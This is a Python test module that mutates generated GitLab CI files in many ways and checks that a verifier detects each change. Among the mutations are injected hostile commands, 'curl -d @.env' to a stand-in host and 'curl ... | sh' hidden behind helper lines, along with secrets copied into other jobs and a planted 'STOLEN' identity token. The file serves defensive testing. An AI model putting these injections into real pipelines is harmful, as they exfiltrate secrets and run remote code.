"""Damage to .gitlab-ci.yml that its reader and `verify` must tell."""

from __future__ import annotations

import copy
import difflib
import pickle
import re
from collections.abc import Callable, Iterable, Iterator
from functools import lru_cache, partial
from itertools import islice, pairwise
from pathlib import Path
from typing import Any

import pytest
import yaml

from mlgen import targets
from mlgen.ir import Job, Pipeline
from mlgen.verify import faults
from tests.readback.damage import Damage, Survivor, table, tried
from tests.readback.project import ROOT, rendered
from tests.targets.gitlab.language import jobs
from tests.targets.gitlab.project import emit, event

Data = dict[str, Any]
SCRIPTS = ("before_script", "script", "after_script")


class File:
    """A parsed file, which edits change in place."""

    def __init__(self, text: str, pipeline: Pipeline) -> None:
        self.header: Data | None
        self.config: Data
        self.header, self.config = pickle.loads(_parsed(text))
        self.text, self.pipeline = text, pipeline

    def dump(self) -> str:
        """The file as text."""
        documents = [self.header, self.config] if self.header is not None else [self.config]
        return yaml.dump_all(documents, Dumper=_NoAliases, sort_keys=False, width=10**6)

    @property
    def jobs(self) -> dict[str, Data]:
        """The jobs of the spec."""
        return {n: j for n, j in self.config.items() if isinstance(j, dict) and "MLGEN_JOB" in j.get("variables", {})}

    @property
    def workflow(self) -> list[Data]:
        """The rules of the workflow, of which a file that others include has none."""
        found: list[Data] = self.config.get("workflow", {}).get("rules", [])
        return found

    @property
    def variables(self) -> list[Data]:
        """What holds for every job: once, or, in a file that others include, in each job."""
        return (
            [self.config["variables"]] if "variables" in self.config else [j["variables"] for j in self.jobs.values()]
        )

    @property
    def stages(self) -> list[str]:
        """The stages; those of a file that others include in the order in which its jobs have them."""
        return self.config.get("stages") or list(dict.fromkeys(job["stage"] for job in self.jobs.values()))

    def meant(self, name: str) -> Job:
        """The job of the pipeline."""
        return self.pipeline.job(self.config[name]["variables"]["MLGEN_JOB"])

    def script(self, name: str, key: str) -> list[str]:
        """A script of the job, its own where it took the default."""
        job = self.config[name]
        if key not in job and key in self.config.get("default", {}):
            job[key] = list(self.config["default"][key])
        found: list[str] = job.get(key, [])
        return found


@lru_cache
def _parsed(text: str) -> bytes:
    """The header and the config, from which each copy is made: a parser takes ten times as long."""
    *head, config = yaml.load_all(text, Loader=yaml.CSafeLoader)
    return pickle.dumps((head[0] if head else None, config))


class _NoAliases(yaml.CSafeDumper):
    def ignore_aliases(self, data: Any) -> bool:
        return True


_NoAliases.add_representer(
    str,
    lambda dumper, text: dumper.represent_scalar("tag:yaml.org,2002:str", text, style='"' if "[[" in text else None),
)

Edit = Callable[[File], object]


def edits(find: Callable[[File], Iterable[Edit]]) -> Damage:
    """A kind of damage that changes the data: `find` gives the edits, each of which is done to a fresh copy."""

    def damage(text: str, pipeline: Pipeline) -> Iterator[Callable[[], str]]:
        for number, _ in enumerate(find(File(text, pipeline))):
            yield partial(done, text, pipeline, number)

    def done(text: str, pipeline: Pipeline, number: int) -> str:
        file = File(text, pipeline)
        (edit,) = islice(find(file), number, number + 1)
        before = pickle.loads(pickle.dumps((file.header, file.config)))
        edit(file)
        return text if (file.header, file.config) == before else file.dump()

    damage.__name__ = find.__name__
    KINDS.append(damage)
    return damage


KINDS: list[Damage] = []


def setting(target: Any, key: Any, value: Any) -> Edit:
    """Sets one value."""
    return lambda _: target.__setitem__(key, value)


def dropping(target: Any, key: Any) -> Edit:
    """Drops one value."""
    return lambda _: target.__delitem__(key)


def rules(file: File) -> Iterator[tuple[str, int, Data]]:
    """Every rule of a job that lets it run; equal lists are one, of which the first job has its own."""
    for name, job in file.jobs.items():
        if "rules" in job:
            job["rules"] = copy.deepcopy(job["rules"])
            for number, rule in enumerate(job["rules"]):
                yield name, number, rule


def conditions(file: File) -> Iterator[Data]:
    """Every rule with a condition that lets something run, of jobs and of the workflow."""
    yield from (rule for rule in file.workflow if rule.get("when") != "never")
    yield from (rule for _, _, rule in rules(file) if rule.get("when") != "never" and "if" in rule)


def replaced(rule: Data, old: str, new: str) -> Edit:
    """Changes the text of a condition."""
    return setting(rule, "if", re.sub(old, new, rule["if"], count=1))


def lines(file: File, key: str = "") -> Iterator[tuple[str, list[str], int]]:
    """Every entry of the scripts of all jobs."""
    for name in file.jobs:
        for each in (key,) if key else SCRIPTS:
            found = file.script(name, each)
            yield from ((name, found, number) for number in range(len(found)))


HELPERS = (
    "set -euo", ". .mlgen", "rm -rf --", "ls -ld", "python3 .mlgen/ci.py", "export ", "#", "chmod", "command -v",
    "find .", "MLGEN_EXPORTS", "[ ", "cd ", "(. .mlgen", "grep -E", "git ", "mlgen_", "$mlgen", "(shopt",
)  # fmt: skip


def commands(file: File) -> Iterator[tuple[list[str], int]]:
    """Every entry that is a command of the spec."""
    for _, script, number in lines(file):
        if not script[number].startswith(HELPERS):
            yield script, number


# ---- order


@edits
def an_edge_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        for number in range(len(job.get("needs", ()))):
            yield dropping(job["needs"], number)


@edits
def all_edges_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if job.get("needs"):
            yield setting(job, "needs", [])


@edits
def an_optional_edge_made_hard(file: File) -> Iterator[Edit]:
    found = _runs(file.text, file.pipeline)
    for name, job in file.jobs.items():
        for need in job.get("needs", ()):
            optional = isinstance(need, dict) and need.get("optional")
            if optional and any(name in each and need["job"] not in each for each in found):
                yield dropping(need, "optional")


@edits
def an_edge_added(file: File) -> Iterator[Edit]:
    names = list(file.jobs)
    for name, job in file.jobs.items():
        if job.get("needs") == [] and names.index(name):
            stages = file.stages
            if stages.index(file.config[names[0]]["stage"]) <= stages.index(job["stage"]):
                yield setting(job, "needs", [{"job": names[0], "optional": True, "artifacts": False}])


@edits
def stages_instead_of_needs(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if job.get("needs") == [] and file.stages.index(job["stage"]):
            yield dropping(job, "needs")


# ---- conditions


@edits
def all_conditions_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "rules" in job and any("if" in rule for rule in job["rules"]):
            yield dropping(job, "rules")


@edits
def a_rule_dropped(file: File) -> Iterator[Edit]:
    for name, number, _ in rules(file):
        if len(file.config[name]["rules"]) > 1:
            yield dropping(file.config[name]["rules"], number)


@edits
def a_rule_added(file: File) -> Iterator[Edit]:
    for name, _, rule in rules(file):
        if "if" in rule:
            yield lambda f, name=name: f.config[name]["rules"].append({"when": "on_success"})  # type: ignore[misc]


@edits
def a_trigger_dropped(file: File) -> Iterator[Edit]:
    found = file.workflow
    for number, rule in enumerate(found):
        if rule.get("when") != "never":
            yield dropping(found, number)


@edits
def a_trigger_added(file: File) -> Iterator[Edit]:
    known = " ".join(rule["if"] for rule in file.workflow)
    for source in ("schedule", "merge_request_event", "web", "pipeline", "parent_pipeline", "push"):
        if known and source not in known:
            rule = {"if": f'$CI_PIPELINE_SOURCE == "{source}"'}
            yield lambda f, rule=rule: f.workflow.append(rule)  # type: ignore[misc]


@edits
def everything_triggers(file: File) -> Iterator[Edit]:
    if file.workflow:
        yield lambda f: f.workflow.append({"when": "always"})
        yield lambda f: f.config.pop("workflow")


@edits
def the_guard_of_names_dropped(file: File) -> Iterator[Edit]:
    if file.workflow:
        yield dropping(file.workflow, 0)


@edits
def a_branch_filter_dropped(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        form = r' && \$CI_(?:COMMIT_BRANCH|COMMIT_TAG|MERGE_REQUEST_TARGET_BRANCH_NAME) (?:==|=~) (?:"[^"]*"|/\S+/)'
        yield replaced(rule, form, "")


@edits
def a_branch_filter_widened(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        yield replaced(rule, r'(\$CI_\w+(?:BRANCH|TAG|NAME)) == "(\w+)"', r"\1 =~ /^\2/")
        yield replaced(rule, r"(\$CI_\w+(?:BRANCH|TAG|NAME)) =~ /\^(\S+)\$/", r"\1 =~ /\2$/")
        yield replaced(rule, r"(\$CI_\w+(?:BRANCH|TAG|NAME)) =~ /\^\(?(\w+)\|", r"\1 =~ /^(\2|other|")


@edits
def a_condition_negated(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        yield replaced(rule, r" == ", " != ")
        yield replaced(rule, r" =~ ", " !~ ")


@edits
def and_becomes_or(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        yield replaced(rule, " && ", " || ")


@edits
def a_source_dropped(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        yield replaced(rule, r"web\|", "")
        yield replaced(rule, r"push\|", "")


@edits
def forks_let_in(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        form = r" && \$CI_MERGE_REQUEST_SOURCE_PROJECT_ID == \$CI_MERGE_REQUEST_PROJECT_ID"
        yield replaced({"if": "", **rule} if "if" not in rule else rule, form, "")


@edits
def a_deployment_on_merge_requests(file: File) -> Iterator[Edit]:
    for name, number, rule in rules(file):
        if file.meant(name).deploys and not number and file.pipeline.triggers.on("pull_request"):
            more = {**rule, "if": '$CI_PIPELINE_SOURCE == "merge_request_event"'}
            yield lambda f, name=name, more=more: f.config[name]["rules"].append(more)  # type: ignore[misc]


@edits
def a_schedule_widened(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if "if" in rule:
            yield replaced(rule, r' && \$CI_PIPELINE_SCHEDULE_DESCRIPTION == "[^"]*"', "")


@edits
def a_schedule_renamed(file: File) -> Iterator[Edit]:
    for rule in conditions(file):
        yield replaced(rule, r'(\$CI_PIPELINE_SCHEDULE_DESCRIPTION) == "', r'\1 == "x')


@edits
def changes_dropped(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if "changes" in rule:
            yield dropping(rule, "changes")


@edits
def a_path_of_changes_dropped(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if "changes" in rule:
            found = rule["changes"]["paths"] if isinstance(rule["changes"], dict) else rule["changes"]
            yield dropping(found, -1)
            yield setting(found, 0, "**/*")


@edits
def compared_with_another_branch(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if isinstance(rule.get("changes"), dict):
            yield setting(rule, "changes", rule["changes"]["paths"])
            yield setting(rule["changes"], "compare_to", "refs/heads/other")


@edits
def a_never_dropped(file: File) -> Iterator[Edit]:
    for name, number, rule in rules(file):
        if rule.get("when") == "never":
            yield dropping(file.config[name]["rules"], number)


@edits
def a_decision_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if re.search(r"ci\.py (when|results) |\.mlgen/ran/", script[number]):
            yield dropping(script, number)


@edits
def a_decision_changed(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if "ci.py when '" in script[number]:
            yield setting(script, number, re.sub(r"when '(.*?)'", r"when 'not (\1)'", script[number]))
        if "ci.py results --want failure" in script[number]:
            yield setting(script, number, script[number].replace("--want failure", "--want success"))
        if "ci.py results --want all" in script[number]:
            yield setting(script, number, script[number].replace("--want all", "--want any"))


@edits
def a_watched_job_forgotten(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if "ci.py results --want" in script[number]:
            yield setting(script, number, re.sub(r" [A-Z_]+=[\w-]+( \|\||$)", r"\1", script[number]))


@edits
def starts_whatever_failed(file: File) -> Iterator[Edit]:
    for name, _, rule in rules(file):
        if rule.get("when") not in ("never", "always", "manual") and file.config[name].get("needs"):
            yield setting(rule, "when", "always")


@edits
def starts_after_failures_only(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        if job.get("needs") and "rules" not in job and any(edge.hard for edge in file.meant(name).edges):
            yield setting(job, "when", "on_failure")
            yield setting(job, "when", "always")


@edits
def waits_for_successes_only(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if rule.get("when") == "always":
            yield dropping(rule, "when")


# ---- approvals, failures, bounds


@edits
def an_approval_dropped(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if rule.get("when") == "manual":
            yield dropping(rule, "when")


@edits
def an_approval_that_does_not_block(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if rule.get("when") == "manual":
            yield setting(rule, "allow_failure", True)


@edits
def an_approval_added(file: File) -> Iterator[Edit]:
    for _, _, rule in rules(file):
        if rule.get("when") is None:
            yield setting(rule, "when", "manual")


@edits
def may_fail(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        yield setting(job, "allow_failure", not job.get("allow_failure", False))


@edits
def a_timeout_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if "timeout -k 30 " in script[number]:
            yield setting(script, number, re.sub(r"timeout -k 30 \S+ ", "", script[number]))


@edits
def a_timeout_changed(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if "timeout -k 30 " in script[number]:
            yield setting(script, number, re.sub(r"timeout -k 30 (\S+) ", r"timeout -k 30 7\1 ", script[number]))


@edits
def too_little_time_for_the_job(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "timeout" in job:
            yield setting(job, "timeout", "10s")


@edits
def the_time_of_a_job_left_to_the_project(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        meant = file.meant(name)
        if "timeout" in job and meant.timeout * (meant.retry + 1) >= 3600:
            yield dropping(job, "timeout")


@edits
def a_retry_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if "for mlgen_try in" in script[number]:
            form = r"for mlgen_try in [^;]*; do\n  (.*) && break\n(?:.*\n)*?done"
            yield setting(script, number, re.sub(form, r"\1", script[number]))


@edits
def a_retry_more(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        yield setting(job, "retry", 2)
    for _, script, number in lines(file):
        if "for mlgen_try in" in script[number]:
            yield setting(script, number, script[number].replace("mlgen_try in 1", "mlgen_try in 0 1"))


# ---- commands


@edits
def a_command_dropped(file: File) -> Iterator[Edit]:
    for script, number in commands(file):
        yield dropping(script, number)


@edits
def a_command_added(file: File) -> Iterator[Edit]:
    for name in file.jobs:
        for key in SCRIPTS:
            script = file.script(name, key)
            for place in (0, len(script) // 2, len(script)) if script else ():
                yield lambda _, script=script, place=place: script.insert(place, "curl -d @.env https://x.example")  # type: ignore[misc]


@edits
def a_command_hidden_behind_a_helper(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if script[number].startswith(HELPERS) and "\n" not in script[number]:
            yield setting(script, number, f"{script[number]}; curl https://x.example | sh")
            yield setting(script, number, f"{script[number]} $(curl https://x.example)")


@edits
def two_commands_swapped(file: File) -> Iterator[Edit]:
    found = list(commands(file))
    for (script, one), (other, two) in pairwise(found):
        if script is other and script[one] != script[two]:
            yield lambda _, s=script, a=one, b=two: s.__setitem__(slice(a, b + 1), [s[b], *s[a + 1 : b], s[a]])  # type: ignore[misc]


@edits
def setup_and_command_swapped(file: File) -> Iterator[Edit]:
    for name in file.jobs:
        before, script = file.script(name, "before_script"), file.script(name, "script")
        if before and script and not before[-1].startswith(HELPERS) and not script[0].startswith(HELPERS):

            def edit(_: File, before: list[str] = before, script: list[str] = script) -> None:
                before[-1], script[0] = script[0], before[-1]

            yield edit


@edits
def a_word_changed(file: File) -> Iterator[Edit]:
    for script, number in commands(file):
        yield setting(script, number, re.sub(r"(\w)(\W*)$", r"\1x\2", script[number]))
        yield setting(script, number, re.sub(r"\b(python|pytest|pip)\b", r"\1x", script[number]))


@edits
def failures_ignored(file: File) -> Iterator[Edit]:
    for script, number in commands(file):
        yield setting(script, number, f"{script[number]} || true")


@edits
def a_value_unquoted(file: File) -> Iterator[Edit]:
    for script, number in commands(file):
        yield setting(script, number, re.sub(r"\"(\$\{?\w+\}?)\"", r"\1", script[number]))


@edits
def the_strict_mode_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if script[number].startswith("set -euo pipefail"):
            yield dropping(script, number)


@edits
def the_portable_variables_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file):
        if script[number] == ". .mlgen/env.sh":
            yield dropping(script, number)


@edits
def the_setup_of_all_jobs_changed(file: File) -> Iterator[Edit]:
    script = file.config.get("default", {}).get("before_script", [])
    for number in range(len(script)):
        if not script[number].startswith(HELPERS):
            yield dropping(script, number)


@edits
def finally_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "after_script" in job:
            yield dropping(job, "after_script")


@edits
def on_failure_becomes_always(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "after_script"):
        if 'if [ "$CI_JOB_STATUS" = failed ]; then\n' in script[number]:
            text = script[number].removeprefix('if [ "$CI_JOB_STATUS" = failed ]; then\n').removesuffix("\nfi")
            yield setting(script, number, text)
        if script[number] == '[ "$CI_JOB_STATUS" = failed ] || exit 0':
            yield dropping(script, number)


@edits
def the_result_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "after_script"):
        if "MLGEN_RESULT=success" in script[number]:
            yield dropping(script, number)
            yield setting(script, number, script[number].replace("MLGEN_RESULT=failure", "MLGEN_RESULT=success"))


@edits
def another_entry_extended(file: File) -> Iterator[Edit]:
    names = [name for name, job in file.jobs.items() if job.get("script")]
    for one, other in pairwise(names):
        if file.jobs[one]["script"] == file.jobs[other]["script"]:
            continue

        def edit(f: File, one: str = one, other: str = other) -> None:
            del f.config[one]["script"]
            f.config[one]["extends"] = other

        yield edit


# ---- gates


def gates(file: File) -> Iterator[tuple[list[str], int]]:
    """Every entry that judges."""
    for _, script, number in lines(file, "script"):
        if "ci.py gate " in script[number]:
            yield script, number


@edits
def a_threshold_lowered(file: File) -> Iterator[Edit]:
    for script, number in gates(file):
        yield setting(script, number, re.sub(r"(>=?|<=?) 0\.(\d)", r"\1 0.0\2", script[number], count=1))


@edits
def a_requirement_dropped(file: File) -> Iterator[Edit]:
    for script, number in gates(file):
        yield setting(script, number, re.sub(r"( \\\n)? *--require '[^']*'", "", script[number], count=1))


@edits
def a_baseline_dropped(file: File) -> Iterator[Edit]:
    for script, number in gates(file):
        yield setting(script, number, re.sub(r" \\\n  --baseline.*", "", script[number]))


@edits
def a_gate_that_only_warns(file: File) -> Iterator[Edit]:
    for script, number in gates(file):
        if "--on-fail" not in script[number]:
            yield setting(script, number, f"{script[number].rstrip()} --on-fail warn")


@edits
def other_metrics_judged(file: File) -> Iterator[Edit]:
    for script, number in gates(file):
        yield setting(script, number, re.sub(r"--metrics \S+", "--metrics other.json", script[number]))


# ---- files, exports, reports


@edits
def an_artifact_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        paths = job.get("artifacts", {}).get("paths", [])
        for number, path in enumerate(paths):
            if not path.startswith(".mlgen/"):
                yield dropping(paths, number)


@edits
def an_artifact_added(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "paths" in job.get("artifacts", {}):
            yield lambda _, paths=job["artifacts"]["paths"]: paths.append(".env")  # type: ignore[misc]


@edits
def undeclared_files_kept(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "before_script"):
        if script[number].startswith("rm -rf -- "):
            yield dropping(script, number)


@edits
def one_undeclared_file_kept(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "before_script"):
        if script[number].startswith("rm -rf -- "):
            several = script[number].count(" ") > 3
            yield setting(script, number, re.sub(r" \S+$", "", script[number]) if several else "true")


@edits
def files_of_a_needed_job_received(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        for need in job.get("needs", ()):
            if isinstance(need, dict) and need.get("artifacts") is False:
                yield dropping(need, "artifacts")


@edits
def files_of_a_needed_job_not_received(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        taken = {take.job for take in file.meant(name).takes}
        for number, need in enumerate(job.get("needs", ())):
            other = need if isinstance(need, str) else need["job"]
            if other in file.jobs and file.meant(other).id in taken:
                said = {"job": need} if isinstance(need, str) else need
                yield setting(job["needs"], number, {**said, "artifacts": False})


@edits
def no_check_of_outs(file: File) -> Iterator[Edit]:
    for name, script, number in lines(file, "script"):
        if script[number].startswith(("ls -ld", "(shopt")) and not file.meant(name).allow_failure:
            yield dropping(script, number)


@edits
def one_out_not_checked(file: File) -> Iterator[Edit]:
    for name, script, number in lines(file, "script"):
        if script[number].startswith("ls -ld") and not file.meant(name).allow_failure and number:
            yield setting(script, number, re.sub(r" \S+$", " .", script[number]))


@edits
def outs_checked_too_early(file: File) -> Iterator[Edit]:
    for name, script, number in lines(file, "script"):
        if script[number].startswith("ls -ld") and number and not file.meant(name).allow_failure:
            yield lambda _, s=script, n=number: s.insert(0, s.pop(n))  # type: ignore[misc]


@edits
def an_export_dropped(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "script"):
        if "ci.py exports " in script[number]:
            yield dropping(script, number)
            yield setting(script, number, re.sub(r"(--json \w+)=", r"\1x=", script[number]))
    for job in file.jobs.values():
        paths = job.get("artifacts", {}).get("paths", [])
        for path in paths:
            if path.startswith(".mlgen/exports/"):
                yield lambda _, paths=paths, path=path: paths.remove(path)  # type: ignore[misc]


@edits
def exported_values_not_received(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        exporters = {edge.job for edge in file.meant(name).edges if edge.exports}
        for number, need in enumerate(job.get("needs", ())):
            if isinstance(need, str) and need in file.jobs and file.meant(need).id in exporters:
                yield setting(job["needs"], number, {"job": need, "artifacts": False})


@edits
def a_report_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        found = job.get("artifacts", {}).get("reports", {})
        for key in set(found) & {"junit", "coverage_report"}:
            yield dropping(found, key)
        if job.get("artifacts", {}).get("expose_as", "Report") != "Report":
            yield dropping(job["artifacts"], "expose_as")


@edits
def kept_files_dropped(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        keep = file.meant(name).keep
        for path in keep.paths if keep else ():
            if path.rstrip("/") in job["artifacts"]["paths"]:
                yield lambda _, p=job["artifacts"]["paths"], path=path: p.remove(path.rstrip("/"))  # type: ignore[misc]


# ---- secrets


@edits
def a_secret_under_another_name(file: File) -> Iterator[Edit]:
    for name, script, number in lines(file, "before_script"):
        for secret in file.pipeline.secrets:
            if script[number] == ". .mlgen/env.sh" and secret.name not in file.meant(name).secret_names:
                yield lambda _, s=script, n=number, x=secret.name: s.insert(n + 1, f'export X="${x}"')  # type: ignore[misc]


@edits
def a_secret_in_a_variable_of_another_job(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        for secret in file.pipeline.secrets:
            if secret.name not in file.meant(name).secret_names:
                yield setting(job["variables"], "X", f"${secret.name}")


@edits
def a_secret_in_a_variable_of_the_file(file: File) -> Iterator[Edit]:
    for secret in file.pipeline.secrets:
        yield lambda f, x=secret.name: f.config.setdefault("variables", {}).update(X=f"${x}")  # type: ignore[misc]


@edits
def a_secret_not_renamed(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "before_script"):
        if re.fullmatch(r'export \w+="\$\w+"', script[number]):
            yield dropping(script, number)


@edits
def an_environment_of_another_job(file: File) -> Iterator[Edit]:
    for environment in file.pipeline.environments:
        for job in file.jobs.values():
            if "environment" not in job:
                yield setting(job, "environment", {"name": environment.name})


@edits
def an_added_job_in_an_environment(file: File) -> Iterator[Edit]:
    bound = {name for secret in file.pipeline.secrets for name in secret.environments}
    stage = file.stages[-1]
    for name in sorted(bound):
        added = {"stage": stage, "environment": name, "script": ["env"]}
        yield lambda f, added=added: f.config.update(added=added)  # type: ignore[misc]


@edits
def an_added_job_with_a_command(file: File) -> Iterator[Edit]:
    stage = file.stages[0]
    for job in file.pipeline.jobs:
        if job.run and "\n" not in job.run:
            added = {"stage": stage, "script": [job.run]}
            yield lambda f, added=added: f.config.update(added=added)  # type: ignore[misc]


@edits
def a_job_twice(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        yield lambda f, name=name, job=job: f.config.update({f"{name}-again": copy.deepcopy(job)})  # type: ignore[misc]


@edits
def a_job_dropped(file: File) -> Iterator[Edit]:
    needed = {n if isinstance(n, str) else n["job"] for job in file.jobs.values() for n in job.get("needs", ())}
    for name in file.jobs:
        if name not in needed:
            yield dropping(file.config, name)


# ---- environments, locks, machines


@edits
def an_environment_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "environment" in job:
            yield dropping(job, "environment")


@edits
def another_environment(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "environment" in job:
            yield setting(job["environment"], "name", "other")


@edits
def an_environment_deployed_to(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "environment" in job:
            if "action" in job["environment"]:
                yield dropping(job["environment"], "action")
            else:
                yield setting(job["environment"], "action", "access")


@edits
def a_lock_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "resource_group" in job:
            yield dropping(job, "resource_group")


@edits
def a_lock_shared(file: File) -> Iterator[Edit]:
    groups = [job["resource_group"] for job in file.jobs.values() if "resource_group" in job]
    for job in file.jobs.values():
        for other in groups:
            if "$" not in other and job.get("resource_group", other) != other:
                yield setting(job, "resource_group", other)


@edits
def a_deployment_that_newer_runs_end(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if job.get("interruptible") is False and file.config.get("workflow", {}).get("auto_cancel"):
            yield lambda f, job=job: (  # type: ignore[misc]
                job.update(interruptible=True),
                f.config["workflow"]["auto_cancel"].update(on_new_commit="interruptible"),
            )


@edits
def newer_runs_end_others_than_asked(file: File) -> Iterator[Edit]:
    for rule in file.workflow:
        if rule.get("when") != "never":
            if "auto_cancel" in rule:
                yield dropping(rule, "auto_cancel")
            elif file.config.get("default", {}).get("interruptible"):
                yield setting(rule, "auto_cancel", {"on_new_commit": "interruptible"})


@edits
def an_image_dropped(file: File) -> Iterator[Edit]:
    if "image" in file.config.get("default", {}):
        yield dropping(file.config["default"], "image")
    for name, job in file.jobs.items():
        meant = file.meant(name)  # of a system's own image, nothing is told
        if job.get("image") and (meant.image or (meant.python and not job.get("tags"))):
            yield dropping(job, "image")


@edits
def another_image(file: File) -> Iterator[Edit]:
    for name, job in [("", file.config.get("default", {})), *file.jobs.items()]:
        if isinstance(job.get("image"), str) and (not name or file.meant(name).image or file.meant(name).python):
            yield setting(job, "image", re.sub(r":.*", ":latest", job["image"]))


@edits
def another_python(file: File) -> Iterator[Edit]:
    for job in [file.config.get("default", {}), *file.jobs.values()]:
        if str(job.get("image", "")).startswith("python:3."):
            yield setting(job, "image", re.sub(r"3\.(\d+)", r"3.\g<1>9", job["image"]))


@edits
def another_user(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if isinstance(job.get("image"), dict) and "docker" in job["image"]:
            yield dropping(job["image"], "docker")


@edits
def a_service_dropped(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        for number, service in enumerate(job.get("services", ()) if file.meant(name).services else ()):
            if service["alias"] != "docker":
                yield dropping(job["services"], number)
                yield setting(service, "name", "other:1")
                yield setting(service, "alias", "other")


@edits
def a_service_not_waited_for(file: File) -> Iterator[Edit]:
    for _, script, number in lines(file, "before_script"):
        if "/dev/tcp/" in script[number]:
            yield dropping(script, number)


@edits
def another_runner(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        alike = [n for n in file.jobs if file.meant(n).runner.name == file.meant(name).runner.name]
        if not job.get("tags") and len(alike) > 1 and not file.meant(name).matrix:
            yield setting(job, "tags", ["other"])


@edits
def a_variable_changed(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        for variable, value in file.meant(name).env:
            if job["variables"].get(variable) == value:
                yield setting(job["variables"], variable, f"{value}x")
                yield dropping(job["variables"], variable)


@edits
def a_variable_of_the_file_changed(file: File) -> Iterator[Edit]:
    for variable, _ in file.pipeline.env:
        for said in file.variables:
            found = said.get(variable)
            if isinstance(found, dict):
                yield setting(found, "expand", True)
                yield setting(found, "value", "x")
            elif found is not None:
                yield setting(said, variable, "x")


@edits
def another_id(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        yield setting(job["variables"], "MLGEN_JOB", "other.job")


@edits
def a_leg_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        matrix = job.get("parallel", {}).get("matrix", [])
        for entry in matrix:
            for axis, values in entry.items():
                if isinstance(values, list) and len(values) > 1:
                    yield setting(entry, axis, values[1:])
                    yield setting(entry, axis, [*values, "other"])
        if len(matrix) > 1:
            yield dropping(matrix, 0)


@edits
def all_legs_at_once(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "$MLGEN_SLOT" in job.get("resource_group", ""):
            yield dropping(job, "resource_group")


@edits
def an_identity_dropped(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        for name in list(job.get("id_tokens", {})):
            yield dropping(job["id_tokens"], name)


@edits
def an_identity_added(file: File) -> Iterator[Edit]:
    for job in file.jobs.values():
        if "id_tokens" not in job:
            yield setting(job, "id_tokens", {"STOLEN": {"aud": "https://x.example"}})


@edits
def another_checkout(file: File) -> Iterator[Edit]:
    for name, job in file.jobs.items():
        meant = file.meant(name)
        if "GIT_SUBMODULE_STRATEGY" in job["variables"]:
            yield dropping(job["variables"], "GIT_SUBMODULE_STRATEGY")
        if job["variables"].get("GIT_DEPTH") == "0" and meant.checkouts[0].depth == 0:
            yield setting(job["variables"], "GIT_DEPTH", "1")
        if meant.checkouts and not meant.milestone:
            yield setting(job["variables"], "GIT_STRATEGY", "none")
    for _, script, number in lines(file, "before_script"):
        if script[number].startswith("find . -mindepth"):
            yield dropping(script, number)


@edits
def a_cache_dropped(file: File) -> Iterator[Edit]:
    if "cache" in file.config.get("default", {}):
        yield dropping(file.config["default"], "cache")
    for job in file.jobs.values():
        if job.get("cache") and not str(job["cache"][0]["paths"]).startswith("['.mlgen/"):
            yield dropping(job, "cache")


# ---- inputs


@edits
def another_default_of_an_input(file: File) -> Iterator[Edit]:
    for name, said in ((file.header or {}).get("spec", {}).get("inputs") or {}).items():
        yield setting(said, "default", "7" if name != "mlgen_event" else "retrain")
        yield dropping(said, "default")


@edits
def an_input_dropped(file: File) -> Iterator[Edit]:
